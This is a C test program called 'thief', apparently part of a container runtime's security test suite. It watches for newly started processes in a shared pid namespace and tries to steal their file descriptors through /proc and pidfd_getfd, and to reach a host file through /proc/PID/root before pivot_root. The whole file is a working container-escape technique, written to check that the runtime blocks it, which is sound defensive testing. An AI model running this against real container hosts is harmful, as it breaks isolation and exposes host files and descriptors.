/* thief: the descriptor theft of issue 13, run from inside a container of a
 * pod that shares its pid namespace (tests/reliability/t_sec_fds.sh).
 *
 *   thief SECONDS MARKER
 *       For SECONDS, watch /proc/sys/kernel/ns_last_pid. Each new pid is a
 *       process upod starts in the pod; until it is gone (or for 3 s), keep
 *       trying to take its fds 3 to 260 (open /proc/PID/fd/N, pidfd_getfd),
 *       and to reach the
 *       host file MARKER through its /proc/PID/root: a process being set up
 *       stands on the host's filesystem until its pivot_root. Prints
 *       "stolen PID FD TARGET" for each fd obtained, "reached PID MARKER"
 *       when the marker was seen, and at the end
 *       "watched N pids, stole K fds, reached the host R times" (also when
 *       stopped by SIGTERM).
 *
 * Static, so that it runs in a busybox rootfs. */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

#define TRACKED 64

typedef struct {
    long pid;
    time_t since;
    int pidfd;
} victim_t;

static victim_t victims[TRACKED];
static long stolen, reached;
static volatile sig_atomic_t stopping;

static void on_term(int sig)
{
    (void)sig;
    stopping = 1;
}

static long read_last_pid(int fd)
{
    char buf[32];
    ssize_t n = pread(fd, buf, sizeof(buf) - 1, 0);
    if (n <= 0)
        return -1;
    buf[n] = '\0';
    return strtol(buf, NULL, 10);
}

static void track(long pid)
{
    int pidfd = (int)syscall(SYS_pidfd_open, (pid_t)pid, 0);
    if (pidfd < 0)
        return; /* gone already, or a thread */
    for (int i = 0; i < TRACKED; i++) {
        if (victims[i].pid == 0) {
            victims[i] = (victim_t){pid, time(NULL), pidfd};
            return;
        }
    }
    close(pidfd);
}

static void forget(victim_t *v)
{
    close(v->pidfd);
    v->pid = 0;
}

/* Print what the fd got (a copy of pid's fd) is, and close it. */
static void report_stolen(long pid, int fd, int got, const char *how)
{
    char self[64], target[PATH_MAX];
    snprintf(self, sizeof(self), "/proc/self/fd/%d", got);
    ssize_t n = readlink(self, target, sizeof(target) - 1);
    target[n < 0 ? 0 : n] = '\0';
    printf("stolen %ld %d %s%s\n", pid, fd, target, how);
    close(got);
    stolen++;
}

/* One try at everything v holds. */
static void rob(victim_t *v, const char *marker)
{
    char path[PATH_MAX + 64];
    struct stat st;
    bool took = false;
    snprintf(path, sizeof(path), "/proc/%ld/root%s", v->pid, marker);
    if (stat(path, &st) == 0) {
        printf("reached %ld %s\n", v->pid, marker);
        reached++;
        took = true;
    }
    /* Its fds through /proc (the same ptrace check as pidfd_getfd, which
     * the seccomp filter refuses besides). */
    for (int fd = 3; fd <= 260; fd++) {
        snprintf(path, sizeof(path), "/proc/%ld/fd/%d", v->pid, fd);
        int got = open(path, O_PATH | O_CLOEXEC);
        if (got < 0) {
            if (errno == EACCES || errno == EPERM || errno == ENOENT)
                break;
            continue;
        }
        report_stolen(v->pid, fd, got, " (through /proc)");
        took = true;
    }
    for (int fd = 3; fd <= 260; fd++) {
        int got = (int)syscall(SYS_pidfd_getfd, v->pidfd, fd, 0);
        if (got < 0) {
            if (errno == ESRCH) {
                forget(v);
                return;
            }
            if (errno == EPERM)
                return; /* not now: maybe later in its setup */
            continue;   /* EBADF: no such fd */
        }
        report_stolen(v->pid, fd, got, "");
        took = true;
    }
    if (took)
        forget(v); /* once is proof enough */
}

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: thief SECONDS MARKER\n");
        return 2;
    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    int last_fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
    if (last_fd < 0) {
        perror("thief: /proc/sys/kernel/ns_last_pid");
        return 1;
    }
    time_t end = time(NULL) + atol(argv[1]);
    long seen = read_last_pid(last_fd), watched = 0;
    printf("watching\n");
    signal(SIGTERM, on_term); /* stop: report first */
    while (time(NULL) < end && !stopping) {
        long now = read_last_pid(last_fd);
        for (long pid = seen + 1; now > seen && pid <= now; pid++, watched++)
            track(pid);
        if (now > seen)
            seen = now;
        for (int i = 0; i < TRACKED; i++) {
            if (victims[i].pid && time(NULL) - victims[i].since > 3)
                forget(&victims[i]);
            if (victims[i].pid)
                rob(&victims[i], argv[2]);
        }
    }
    printf("watched %ld pids, stole %ld fds, reached the host %ld times\n", watched, stolen,
           reached);
    return 0;
}
